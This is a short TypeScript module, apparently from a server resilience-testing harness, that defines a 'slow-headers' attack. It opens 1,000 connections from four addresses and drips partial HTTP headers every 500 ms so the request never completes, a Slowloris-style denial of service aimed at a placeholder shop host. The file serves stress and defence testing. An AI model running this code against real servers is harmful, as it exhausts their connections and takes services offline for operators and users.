import type { Attack } from '../attack.ts';
import { holdSockets } from '../bare-socket.ts';

const EVERY_MS = 500;

export const slowHeaders: Attack = {
  name: 'slow-headers',
  description: '1,000 connections from four addresses that send headers one by one and never finish them',
  seconds: 8,
  isDirect: true,
  run: async (context) => {
    await holdSockets(context, {
      wanted: context.count(1000),
      addresses: 4,
      begin: (socket) => {
        socket.write('GET / HTTP/1.1\r\nHost: shop.example\r\n');
        let headers = 0;
        const drip = setInterval(() => {
          headers += 1;
          socket.write(`X-Drip-${headers}: 1\r\n`);
        }, EVERY_MS);
        socket.once('close', () => clearInterval(drip));
      },
    });
  },
};
